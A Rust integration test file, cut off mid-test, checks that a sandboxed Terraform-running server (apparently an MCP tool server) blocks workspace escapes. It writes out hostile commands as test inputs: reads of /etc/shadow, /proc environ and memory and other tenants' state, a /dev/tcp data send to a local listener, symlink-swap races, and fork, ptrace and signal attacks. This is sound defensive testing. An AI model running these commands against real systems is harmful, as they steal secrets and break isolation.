//! Escapes a workspace's own configuration tries, against the kernel sandbox in its default
//! strict mode: real Terraform where it can express the attack, a compiled stand-in where not.
//! Every attempt must fail, leak nothing into the result, and leave the server serving.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use crate::common::*;
use serde_json::{Value, json};

const OUTSIDE_SECRET: &str = "TOP-SECRET-OUTSIDE-THE-ROOT";
const VICTIM_SECRET: &str = "VICTIM-STATE-SECRET";
const STATE_DIR_SECRET: &str = "STATE-DIR-SECRET";
const MODULE_SECRET: &str = "VICTIM-MODULE-CODE";

/// A root with the escape fixtures, a victim workspace with state, a victim module, a secret
/// outside the root and one in the server's state dir.
fn scene() -> Sandbox {
    let sb = Sandbox::new(&["escape_file", "escape_remote_state", "escape_module"]);
    let outside = sb.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), OUTSIDE_SECRET).unwrap();
    std::fs::create_dir_all(sb.root.join("victim")).unwrap();
    std::fs::write(
        sb.root.join("victim/main.tf"),
        "output \"secret\" {\n  value = \"x\"\n}\n",
    )
    .unwrap();
    let state = json!({
        "version": 4, "terraform_version": "1.15.5", "serial": 1, "lineage": "00000000-0000-0000-0000-000000000000",
        "outputs": {"secret": {"value": VICTIM_SECRET, "type": "string"}}, "resources": [], "check_results": null
    });
    std::fs::write(sb.root.join("victim/terraform.tfstate"), state.to_string()).unwrap();
    std::fs::create_dir_all(sb.root.join("victim_module")).unwrap();
    std::fs::write(
        sb.root.join("victim_module/main.tf"),
        format!("output \"code\" {{\n  value = \"{MODULE_SECRET}\"\n}}\n"),
    )
    .unwrap();
    std::fs::create_dir_all(&sb.state).unwrap();
    std::fs::write(sb.state.join("secret.txt"), STATE_DIR_SECRET).unwrap();
    std::fs::write(sb.root.join("escape_file/inside.txt"), "inside-is-fine").unwrap();
    sb
}

fn leaks(r: &rmcp::model::CallToolResult, secrets: &[&str]) -> Option<String> {
    let all = format!("{r:?}");
    secrets
        .iter()
        .find(|s| all.contains(*s))
        .map(|s| s.to_string())
}

/// What `escape_file`'s plan would output: the planned value is in the full plan, one
/// `terraform_show` away.
async fn leaked_value(session: &Session, plan: &Value) -> Value {
    let shown = call_ok(
        session,
        "terraform_show",
        json!({"path": "escape_file", "plan_id": plan["plan_id"]}),
    )
    .await;
    shown["plan"]["output_changes"]["leak"]["after"].clone()
}

#[tokio::test]
async fn file_and_remote_state_outside_the_workspace_are_denied() {
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[])).await;
    let secrets = [OUTSIDE_SECRET, VICTIM_SECRET, STATE_DIR_SECRET];
    for ws in ["escape_file", "escape_remote_state"] {
        call_ok(&session, "terraform_init", json!({"path": ws})).await;
    }

    // The control: a file inside the workspace is readable.
    let r = call_ok(
        &session,
        "terraform_plan",
        json!({"path": "escape_file", "vars": {"target": "inside.txt"}}),
    )
    .await;
    assert_eq!(leaked_value(&session, &r).await, "inside-is-fine");

    let targets = [
        sb.dir
            .path()
            .join("outside/secret.txt")
            .display()
            .to_string(),
        "../victim/terraform.tfstate".to_string(),
        sb.root
            .join("victim/terraform.tfstate")
            .display()
            .to_string(),
        sb.state.join("secret.txt").display().to_string(),
        "/etc/shadow".to_string(),
    ];
    for target in &targets {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "escape_file", "vars": {"target": target}}),
        )
        .await;
        assert!(is_error(&r), "file({target}) was allowed: {}", text(&r));
        assert_eq!(leaks(&r, &secrets), None, "file({target}) leaked");
        let t = format!("{} {}", text(&r), sc(&r)["diagnostics"]).to_lowercase();
        assert!(
            // Denied by Landlock, or not even there in the run's own view of the file system.
            t.contains("permission denied")
                || t.contains("no such file")
                || t.contains("no file exists"),
            "{target}: {t}"
        );
    }

    for path in [
        "../victim/terraform.tfstate",
        &sb.root
            .join("victim/terraform.tfstate")
            .display()
            .to_string(),
    ] {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "escape_remote_state", "vars": {"state_path": path}}),
        )
        .await;
        assert!(is_error(&r), "remote state {path} was read: {}", text(&r));
        assert_eq!(leaks(&r, &secrets), None);
        let t = format!("{} {}", text(&r), sc(&r)["diagnostics"]).to_lowercase();
        // Denied by Landlock, or absent from the run's own view of the file system.
        assert!(
            t.contains("permission denied") || t.contains("no stored state was found"),
            "{t}"
        );
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn modules_from_outside_the_workspace_are_denied() {
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[])).await;
    let init = call(&session, "terraform_init", json!({"path": "escape_module"})).await;
    let plan = call(&session, "terraform_plan", json!({"path": "escape_module"})).await;
    assert!(
        is_error(&init) || is_error(&plan),
        "a module outside the workspace was loaded"
    );
    assert!(is_error(&plan));
    assert_eq!(leaks(&init, &[MODULE_SECRET]), None);
    assert_eq!(leaks(&plan, &[MODULE_SECRET]), None);
    session.cancel().await.unwrap();
}

/// Plans and applies `command` through a local-exec provisioner in a fresh copy of the fixture.
async fn exec(
    session: &Session,
    sb: &Sandbox,
    name: &str,
    command: &str,
) -> rmcp::model::CallToolResult {
    sb.add_fixture_as("escape_exec", name);
    call_ok(session, "terraform_init", json!({"path": name})).await;
    let plan = call_ok(
        session,
        "terraform_plan",
        json!({"path": name, "vars": {"command": command}}),
    )
    .await;
    call(
        session,
        "terraform_apply",
        json!({"path": name, "plan_id": plan["plan_id"]}),
    )
    .await
}

#[tokio::test]
async fn local_exec_cannot_read_write_or_connect_outside() {
    let sb = scene();
    let env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    let session = connect(&env).await;
    let outside = sb.dir.path().join("outside");

    // The control: inside the workspace a provisioner works.
    let r = exec(
        &session,
        &sb,
        "exec_ok",
        "echo fine > inside.txt && cat inside.txt",
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(
        std::fs::read_to_string(sb.root.join("exec_ok/inside.txt"))
            .unwrap()
            .trim(),
        "fine"
    );

    let r = exec(
        &session,
        &sb,
        "exec_read",
        &format!("cat {}/secret.txt", outside.display()),
    )
    .await;
    assert!(is_error(&r), "read outside succeeded: {}", text(&r));
    assert_eq!(leaks(&r, &[OUTSIDE_SECRET]), None);
    let r = exec(
        &session,
        &sb,
        "exec_read_state",
        &format!("cat {}/secret.txt", sb.state.display()),
    )
    .await;
    assert!(is_error(&r));
    assert_eq!(leaks(&r, &[STATE_DIR_SECRET]), None);
    let r = exec(
        &session,
        &sb,
        "exec_read_victim",
        "cat ../victim/terraform.tfstate",
    )
    .await;
    assert!(is_error(&r));
    assert_eq!(leaks(&r, &[VICTIM_SECRET]), None);

    let pwned = outside.join("pwned.txt");
    let r = exec(
        &session,
        &sb,
        "exec_write",
        &format!("echo pwned > {}", pwned.display()),
    )
    .await;
    assert!(is_error(&r), "write outside succeeded");
    assert!(!pwned.exists(), "a file was written outside the workspace");
    let r = exec(
        &session,
        &sb,
        "exec_write_tmp",
        "echo pwned > /tmp/terrarium-pwned-$$",
    )
    .await;
    assert!(is_error(&r), "write to /tmp succeeded");

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let r = exec(
        &session,
        &sb,
        "exec_connect",
        &format!("bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'"),
    )
    .await;
    assert!(is_error(&r), "connect succeeded: {}", text(&r));
    tokio::time::sleep(Duration::from_millis(200)).await;
    match listener.accept() {
        Ok((mut s, _)) => {
            let mut got = String::new();
            let _ = s.read_to_string(&mut got);
            panic!("the listener received a connection: {got:?}");
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
    }

    // The server keeps serving.
    call_ok(&session, "terraform_validate", json!({"path": "exec_ok"})).await;
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn a_setsid_sleeper_does_not_survive_the_timeout() {
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "4"),
            ("TERRARIUM_KILL_GRACE_SECS", "2"),
        ],
    );
    let session = connect(&env).await;
    // The run has a PID namespace (and its own /proc), so its pids mean nothing out here: the
    // sleeper is found by a command line no other process has.
    let cmd = "setsid sh -c 'exec sleep 600.0417' & sleep 600";
    // The other tests find a run's survivors by where they work; this one checks that the
    // host does see a namespaced run's processes that way while they live.
    let seen = std::thread::spawn({
        let ws = sb.root.join("exec_setsid");
        move || {
            for _ in 0..200 {
                if !processes_in(&ws).is_empty() {
                    return true;
                }
                std::thread::sleep(Duration::from_millis(25));
            }
            false
        }
    });
    let r = exec(&session, &sb, "exec_setsid", cmd).await;
    assert!(
        seen.join().unwrap(),
        "the run's processes were never seen from the host"
    );
    assert!(is_error(&r));
    assert_eq!(sc(&r)["timed_out"], true);
    let mut survivors = processes_running("600.0417");
    for _ in 0..100 {
        if survivors.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
        survivors = processes_running("600.0417");
    }
    assert!(
        survivors.is_empty(),
        "the setsid()'d sleeper survived the run: {survivors:?}"
    );
    session.cancel().await.unwrap();
}

/// Runs the escape stand-in in `mode` through `tool` and returns its RESULT line.
async fn attempt(session: &Session, tool: &str, ws: &str) -> (Value, String) {
    let r = call(session, tool, json!({"path": ws})).await;
    let s = sc(&r).clone();
    let out = s["stdout"].as_str().unwrap_or_default().to_string();
    let line = out
        .lines()
        .find(|l| l.starts_with("RESULT:"))
        .unwrap_or("")
        .to_string();
    (
        s,
        if line.is_empty() {
            format!("no RESULT line; result: {}", text(&r))
        } else {
            line
        },
    )
}

#[tokio::test]
async fn what_terraform_cannot_express_is_blocked_too() {
    let sb = Sandbox::new(&["basic"]);
    let standin = escape_standin();
    // RLIMIT_NPROC does not bind root, so the fork attempt runs the server as an unprivileged
    // user, as a deployment does (the Dockerfile and the systemd unit run it as one).
    let uid = if is_root() { Some(65534) } else { None };
    let test_pid = std::process::id().to_string();
    let mut env = sb.env(
        &standin,
        &[
            (
                "TERRARIUM_PASSTHROUGH_ENV",
                "STANDIN_MODE,STANDIN_FORKS,STANDIN_MB,STANDIN_BYTES,STANDIN_TARGET_PID",
            ),
            ("TERRARIUM_LIMIT_PROCESSES", "64"),
            ("TERRARIUM_LIMIT_ADDRESS_SPACE_BYTES", "268435456"),
            ("TERRARIUM_LIMIT_FILE_SIZE_BYTES", "1048576"),
            ("STANDIN_FORKS", "5000"),
            ("STANDIN_MB", "1024"),
            ("STANDIN_BYTES", "16777216"),
        ],
    );
    if let Some(uid) = uid {
        sb.chown_all(uid);
    }
    for (mode, tool) in [
        ("bind", "terraform_init"),
        ("bind", "terraform_validate"),
        ("fork", "terraform_init"),
        ("alloc", "terraform_init"),
        ("fsize", "terraform_init"),
        ("ptrace", "terraform_init"),
        ("fds", "terraform_init"),
        ("signal", "terraform_init"),
    ] {
        env.insert("STANDIN_MODE".into(), mode.into());
        // ptrace and signal aim at this test process: a process outside the run's sandbox.
        env.insert("STANDIN_TARGET_PID".into(), test_pid.clone());
        let (session, _server_pid) = connect_as(&env, uid).await;
        let (s, line) = attempt(&session, tool, "basic").await;
        assert!(
            line.contains(":blocked:"),
            "{mode} via {tool} was not blocked: {line}"
        );
        assert_eq!(
            s["exit_code"], 0,
            "{mode}: the stand-in reports a blocked attempt with exit 0: {s}"
        );
        // The server keeps serving after each attempt.
        let (s2, _) = attempt(&session, "terraform_init", "basic").await;
        assert!(
            s2.get("exit_code").is_some(),
            "server stopped answering after {mode}"
        );
        session.cancel().await.unwrap();
        eprintln!("{mode} via {tool}: {line}");
    }
}

#[tokio::test]
async fn the_same_escape_succeeds_with_the_sandbox_off_and_results_say_so() {
    // The control for the tests above: they fail because of the sandbox, not by accident.
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[("TERRARIUM_SANDBOX", "off")])).await;
    call_ok(&session, "terraform_init", json!({"path": "escape_file"})).await;
    let target = sb
        .dir
        .path()
        .join("outside/secret.txt")
        .display()
        .to_string();
    let r = call_ok(
        &session,
        "terraform_plan",
        json!({"path": "escape_file", "vars": {"target": target}}),
    )
    .await;
    assert_eq!(leaked_value(&session, &r).await, OUTSIDE_SECRET);
    assert_eq!(r["sandbox"]["mode"], "off");
    assert!(
        r["sandbox"]["warnings"][0]
            .as_str()
            .unwrap()
            .contains("TERRARIUM_SANDBOX=off")
    );
    session.cancel().await.unwrap();

    let session = connect(&sb.env(&terraform(), &[])).await;
    let r = call_ok(
        &session,
        "terraform_validate",
        json!({"path": "escape_file"}),
    )
    .await;
    assert_eq!(r["sandbox"]["mode"], "strict");
    for layer in ["landlock", "seccomp", "namespaces"] {
        assert_eq!(
            r["sandbox"]["layers"][layer], "enforced",
            "{layer}: {}",
            r["sandbox"]
        );
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn without_namespaces_the_subreaper_still_kills_a_setsid_sleeper() {
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "4"),
            ("TERRARIUM_KILL_GRACE_SECS", "2"),
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces,cgroup"),
        ],
    );
    let session = connect(&env).await;
    let cmd = "setsid sh -c 'read -r p rest < /proc/self/stat; echo $p > sleeper.pid; exec sleep 600' & sleep 600";
    let r = exec(&session, &sb, "exec_setsid_nons", cmd).await;
    assert_eq!(sc(&r)["timed_out"], true);
    assert_eq!(sc(&r)["sandbox"]["layers"]["namespaces"], "disabled");
    let sleeper = read_pid(&sb.root.join("exec_setsid_nons/sleeper.pid"));
    assert!(
        gone_within(sleeper, 5),
        "the setsid()'d sleeper survived without a PID namespace"
    );
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn the_server_process_is_not_readable_from_a_run() {
    let sb = scene();
    let mut env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    env.insert(
        "SERVER_ONLY_SECRET".into(),
        "server-environment-secret-value".into(),
    );
    let (session, server_pid) = connect_as(&env, None).await;
    for (name, cmd) in [
        ("exec_environ", format!("cat /proc/{server_pid}/environ")),
        ("exec_mem", format!("head -c 64 /proc/{server_pid}/mem")),
        ("exec_fd", format!("ls -l /proc/{server_pid}/fd")),
    ] {
        let r = exec(&session, &sb, name, &cmd).await;
        assert!(is_error(&r), "{cmd} succeeded: {}", text(&r));
        assert_eq!(leaks(&r, &["server-environment-secret-value"]), None);
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn landlock_scoping_stops_signals_to_processes_outside_the_run() {
    // The signal attempt above is already stopped by the PID namespace (the target is not
    // visible). Without namespaces the target is visible, and Landlock's signal scope must say no.
    let sb = Sandbox::new(&["basic"]);
    let mut env = sb.env(
        &escape_standin(),
        &[
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces"),
            (
                "TERRARIUM_PASSTHROUGH_ENV",
                "STANDIN_MODE,STANDIN_TARGET_PID",
            ),
        ],
    );
    env.insert("STANDIN_MODE".into(), "signal".into());
    env.insert("STANDIN_TARGET_PID".into(), std::process::id().to_string());
    let (session, _) = connect_as(&env, None).await;
    let (s, line) = attempt(&session, "terraform_init", "basic").await;
    assert!(line.contains(":blocked:"), "a signal left the run: {line}");
    assert!(
        line.contains("Operation not permitted"),
        "blocked by Landlock, not by visibility: {line}"
    );
    assert_eq!(s["sandbox"]["layers"]["landlock"], "enforced");
    session.cancel().await.unwrap();
}

/// Swaps two directory entries atomically, over and over, until told to stop.
fn swap_until(a: PathBuf, b: PathBuf, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<u64> {
    std::thread::spawn(move || {
        use std::os::unix::ffi::OsStrExt;
        let a = std::ffi::CString::new(a.as_os_str().as_bytes()).unwrap();
        let b = std::ffi::CString::new(b.as_os_str().as_bytes()).unwrap();
        let mut swaps = 0;
        while !stop.load(Ordering::Relaxed) {
            // SAFETY: two valid C strings.
            let r = unsafe {
                libc::renameat2(
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if r == 0 {
                swaps += 1;
            }
        }
        swaps
    })
}

#[tokio::test]
async fn a_workspace_swapped_for_a_symlink_after_its_check_never_moves_the_run() {
    // The race of the review: `path` is checked, then the directory is exchanged with a symlink
    // to a directory outside the root (as code in a parent workspace can do), hoping the run's
    // working directory and Landlock rule follow the name. They must follow the checked
    // directory: the outside configuration (a provider that proves it ran) never runs.
    let sb = Sandbox::new(&[]);
    let outside = sb.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let marker = outside.join("ESCAPED");
    plant_provider(
        &outside,
        "evil",
        &format!("#!/bin/sh\necho ran > '{}'\nexit 1\n", marker.display()),
    );
    let victim = sb.root.join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("main.tf"), "terraform {}\n").unwrap();
    std::os::unix::fs::symlink(&outside, sb.root.join("decoy")).unwrap();
    let session = connect(&sb.env(&terraform(), &[])).await;

    let stop = Arc::new(AtomicBool::new(false));
    let swapper = swap_until(victim.clone(), sb.root.join("decoy"), stop.clone());
    let (mut inside, mut refused) = (0, 0);
    for _ in 0..40 {
        let r = call(&session, "terraform_validate", json!({"path": "victim"})).await;
        if is_error(&r) {
            refused += 1;
        } else {
            inside += 1;
        }
        if marker.exists() {
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    assert!(
        !marker.exists(),
        "the run followed the swapped name out of the root ({inside} ran inside, {refused} refused)"
    );
    assert!(swaps > 100, "the race was not exercised ({swaps} swaps)");
    assert!(inside > 0, "no run ever happened in the checked directory");
    session.cancel().await.unwrap();
}

const SERVER_ENV_SECRET: &str = "server-only-environment-secret-4711";

#[tokio::test]
async fn var_files_are_read_by_descriptor_never_through_a_link_or_a_swapped_name() {
    // The server reads var files itself (unsandboxed): a var file that is, or becomes, a link to
    // /proc/self/environ would hand the server's environment to the run and its error messages.
    let sb = Sandbox::new(&["basic"]);
    let ws = sb.root.join("basic");
    std::os::unix::fs::symlink("/proc/self/environ", ws.join("environ.tfvars")).unwrap();
    std::os::unix::fs::symlink(sb.dir.path().join("outside.tfvars"), ws.join("out.tfvars"))
        .unwrap();
    std::fs::write(
        sb.dir.path().join("outside.tfvars"),
        "name = \"OUTSIDE-VALUE\"\n",
    )
    .unwrap();
    let mut env = sb.env(&terraform(), &[]);
    env.insert("SERVER_ONLY_SECRET".into(), SERVER_ENV_SECRET.into());
    let session = connect(&env).await;
    call_ok(&session, "terraform_init", json!({"path": "basic"})).await;
    for file in ["environ.tfvars", "out.tfvars"] {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "basic", "var_files": [file]}),
        )
        .await;
        assert!(is_error(&r), "{file} was read: {}", text(&r));
        assert!(
            text(&r).contains("outside the workspace root"),
            "{}",
            text(&r)
        );
        assert_eq!(leaks(&r, &[SERVER_ENV_SECRET, "OUTSIDE-VALUE"]), None);
    }

    // The race: the name flips between a plain var file and the link while plans run.
    std::fs::write(ws.join("plain.tfvars"), "name = \"plain\"\n").unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = swap_until(
        ws.join("plain.tfvars"),
        ws.join("environ.tfvars"),
        stop.clone(),
    );
    let mut read_plain = 0;
    for _ in 0..30 {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "basic", "var_files": ["plain.tfvars"]}),
        )
        .await;
        assert_eq!(
            leaks(&r, &[SERVER_ENV_SECRET, "TERRARIUM_WORKSPACE_ROOT"]),
            None,
            "the server's environment reached the result"
        );
        if !is_error(&r) {
            read_plain += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    assert!(swapper.join().unwrap() > 100, "the race was not exercised");
    assert!(read_plain > 0, "the plain var file was never read");
    assert!(!sb.audit_text().contains(SERVER_ENV_SECRET));
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn var_files_come_only_from_workspaces_the_caller_is_granted() {
    let sb = Sandbox::new(&["basic", "replace"]);
    std::fs::write(
        sb.root.join("replace/team-b.tfvars"),
        "name = \"TEAM-B-VALUE\"\n",
    )
    .unwrap();
    let policy = sb.dir.path().join("access.toml");
    let mut text_ = terrarium_core::policy::DEFAULT_POLICY.replace(
        "[principals.\"*\"]\nscopes = [\"read\", \"plan\"]\nworkspaces = [\"*\"]",
        "",
    );
    text_.push_str(
        "\n[principals.alice]\nscopes = [\"read\", \"plan\"]\nworkspaces = [\"basic\"]\n",
    );
    std::fs::write(&policy, text_).unwrap();
    let token = "alice-token-0123456789abcdef0123456789";
    let mut env = sb.env(&terraform(), &[]);
    env.insert("TERRARIUM_AUTH_TOKENS".into(), format!("alice:{token}"));
    env.insert("TERRARIUM_POLICY_FILE".into(), policy.display().to_string());
    let server = HttpServer::start(&env, &[]);
    let alice = connect_http(&server.url("/mcp"), token).await;
    call_ok(&alice, "terraform_init", json!({"path": "basic"})).await;
    let r = call(
        &alice,
        "terraform_plan",
        json!({"path": "basic", "var_files": ["../replace/team-b.tfvars"]}),
    )
    .await;
    assert!(
        is_error(&r),
        "a var file of another team's workspace was read"
    );
    assert!(
        text(&r).contains("may not use workspace replace"),
        "{}",
        text(&r)
    );
    assert_eq!(leaks(&r, &["TEAM-B-VALUE"]), None);
    // Her own var files still work.
    let ok = call_ok(
        &alice,
        "terraform_plan",
        json!({"path": "basic", "var_files": ["prod.tfvars"]}),
    )
    .await;
    assert!(ok["plan_id"].is_string());
    alice.cancel().await.unwrap();
}

#[tokio::test]
async fn pathname_unix_sockets_outside_the_run_cannot_be_reached() {
    // Landlock has no rule for connect() to a socket file: the run's own mount namespace shows
    // it only what it is granted, so a socket elsewhere (a Docker or database socket, another
    // workspace's) does not exist for it. Its own sockets (terraform's plugins) keep working.
    let sb = scene();
    let outside = sb.dir.path().join("outside/agent.sock");
    let in_other = sb.root.join("victim/db.sock");
    let listeners: Vec<_> = [&outside, &in_other]
        .iter()
        .map(|p| {
            let l = std::os::unix::net::UnixListener::bind(p).unwrap();
            l.set_nonblocking(true).unwrap();
            l
        })
        .collect();
    let probe = |path: &Path| {
        format!(
            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('CONN' + 'ECTED')\" || true",
            path.display()
        )
    };
    let own = "python3 -c \"import os, socket; p = os.environ['TMPDIR'] + '/own.sock'; l = socket.socket(socket.AF_UNIX); l.bind(p); l.listen(1); c = socket.socket(socket.AF_UNIX); c.connect(p); print('OWN-' + 'SOCKET-OK')\"";
    for (env, sandboxed) in [
        (
            sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]),
            true,
        ),
        (
            sb.env(
                &terraform(),
                &[
                    ("TERRARIUM_ENABLE_APPLY", "true"),
                    ("TERRARIUM_SANDBOX", "off"),
                ],
            ),
            false,
        ),
    ] {
        let session = connect(&env).await;
        for (i, sock) in [&outside, &in_other].iter().enumerate() {
            let name = format!("unix_{sandboxed}_{i}");
            let r = exec(&session, &sb, &name, &probe(sock)).await;
            let connected = text(&r).contains("CONNECTED");
            let accepted = listeners[i].accept().is_ok();
            if sandboxed {
                assert!(
                    !connected && !accepted,
                    "{} was reached: {}",
                    sock.display(),
                    text(&r)
                );
            } else {
                // The control: unconfined, the same probe gets through.
                assert!(
                    connected && accepted,
                    "the probe itself is broken: {}",
                    text(&r)
                );
            }
        }
        let r = exec(&session, &sb, &format!("own_{sandboxed}"), own).await;
        assert!(text(&r).contains("OWN-SOCKET-OK"), "{}", text(&r));
        session.cancel().await.unwrap();
    }
}

#[tokio::test]
async fn without_namespaces_a_lineage_whose_pids_wrapped_is_still_killed() {
    // Without a PID namespace the server, a subreaper, sweeps up a run's escaped descendants.
    // Killing one re-parents its children to the server; when a child has a lower pid than its
    // parent (the pid counter wrapped), a single ascending pass over /proc has already gone past
    // it. The test makes that happen: it moves the counter back before the escapee forks.
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "8"),
            ("TERRARIUM_KILL_GRACE_SECS", "1"),
            // Neither a PID namespace nor a cgroup: the sweep alone (as in most containers).
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces,cgroup"),
        ],
    );
    let session = connect(&env).await;
    let ws = sb.root.join("exec_wrap");
    let watcher = std::thread::spawn({
        let ws = ws.clone();
        move || {
            for _ in 0..400 {
                if let Ok(pid) = std::fs::read_to_string(ws.join("ready")) {
                    let parent: i32 = pid.trim().parse().unwrap();
                    std::fs::write("/proc/sys/kernel/ns_last_pid", "300")
                        .expect("moving the pid counter needs root");
                    std::fs::write(ws.join("go"), "").unwrap();
                    return parent;
                }
                std::thread::sleep(Duration::from_millis(25));
            }
            panic!("the escapee never started");
        }
    });
    let cmd = "setsid sh -c 'echo $$ > ready; while [ ! -f go ]; do sleep 0.05; done; sleep 600.0419 & echo $! > child; wait' & sleep 600";
    let r = exec(&session, &sb, "exec_wrap", cmd).await;
    assert_eq!(sc(&r)["timed_out"], true);
    let parent = watcher.join().unwrap();
    let child = read_pid(&ws.join("child"));
    assert!(
        child < parent,
        "the set-up did not give the child a lower pid ({child} >= {parent})"
    );
    let mut survivors = processes_running("600.0419");
    for _ in 0..40 {
        if survivors.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
        survivors = processes_running("600.0419");
    }
    for pid in &survivors {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(*pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    assert!(
        survivors.is_empty(),
        "a descendant outlived the run: {survivors:?}"
    );
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn each_run_has_a_cgroup_of_its_own_killed_and_removed_when_it_ends() {
    // Where the server may create cgroups (cgroup v2; this test machine, as root), every process
    // of a run — also one that left its process group, without a PID namespace to hold it — is
    // in the run's cgroup, and `cgroup.kill` ends them all when the run ends.
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "5"),
            ("TERRARIUM_KILL_GRACE_SECS", "1"),
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces"),
        ],
    );
    let (session, server_pid) = connect_as(&env, None).await;
    let ws = sb.root.join("exec_cgroup");
    let watcher = std::thread::spawn({
        let ws = ws.clone();
        move || {
            for _ in 0..400 {
                for pid in processes_in(&ws) {
                    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
                    if String::from_utf8_lossy(&cmdline).contains("600.0421") {
                        let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
                        return cg
                            .lines()
                            .find_map(|l| l.strip_prefix("0::"))
                            .map(String::from);
                    }
                }
                std::thread::sleep(Duration::from_millis(25));
            }
            None
        }
    });
    let cmd = "setsid sh -c 'exec sleep 600.0421' & sleep 600";
    let r = exec(&session, &sb, "exec_cgroup", cmd).await;
    assert_eq!(sc(&r)["timed_out"], true);
    let teardown = sc(&r)["sandbox"]["teardown"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(teardown.starts_with("cgroup per run"), "{teardown}");
    let cgroup = watcher.join().unwrap().expect("the escapee was never seen");
    assert!(
        cgroup.contains(&format!("/terrarium-{server_pid}/run-")),
        "the setsid()'d process was not in the run's cgroup: {cgroup}"
    );
    assert!(none_left_in(&ws, 5), "a process of the run survived");
    let info = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let mount = info
        .lines()
        .find(|l| l.contains(" - cgroup2 "))
        .and_then(|l| l.split_whitespace().nth(4))
        .unwrap()
        .to_string();
    let dir = Path::new(&mount).join(cgroup.trim_start_matches('/'));
    assert!(
        !dir.exists(),
        "the run's cgroup was left behind: {}",
        dir.display()
    );
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn a_runs_proc_shows_only_its_own_processes() {
    // With the namespaces layer the run's /proc is a procfs of its own PID namespace: the
    // server, other tenants' runs and their command lines are not there to read.
    let sb = scene();
    let env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    let (session, server_pid) = connect_as(&env, None).await;
    let cmd = format!(
        "echo PIDS=$(ls /proc | grep -c '^[0-9]'); test -e /proc/{server_pid}/cmdline && echo SERVER-VIS''IBLE; true"
    );
    let r = exec(&session, &sb, "exec_proc", &cmd).await;
    let t = text(&r);
    // The first "PIDS=" is in the echoed command line; the count follows a later one.
    let pids: usize = t
        .split("PIDS=")
        .skip(1)
        .find_map(|s| s.split_whitespace().next().and_then(|n| n.parse().ok()))
        .unwrap_or_else(|| panic!("no count: {t}"));
    let host = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_str()
                .is_some_and(|n| n.parse::<u32>().is_ok())
        })
        .count();
    assert!(
        pids < 30 && pids < host,
        "the run sees {pids} processes (host: {host})"
    );
    if server_pid > 30 {
        assert!(!t.contains("SERVER-VISIBLE"), "{t}");
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn another_instance_on_the_same_state_dir_never_removes_a_live_runs_files() {
    // check-config, ci plan or a second server start with the same state dir: their start-up
    // clean-up must leave a running instance's run dirs (and the mounts on them) alone.
    let sb = scene();
    let env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    let session = connect(&env).await;
    let cmd =
        "echo kept > \"$TMPDIR/probe\"; touch started; sleep 4; echo READ-$(cat \"$TMPDIR/probe\")";
    let started = sb.root.join("exec_live/started");
    let second = {
        let mut env = env.clone();
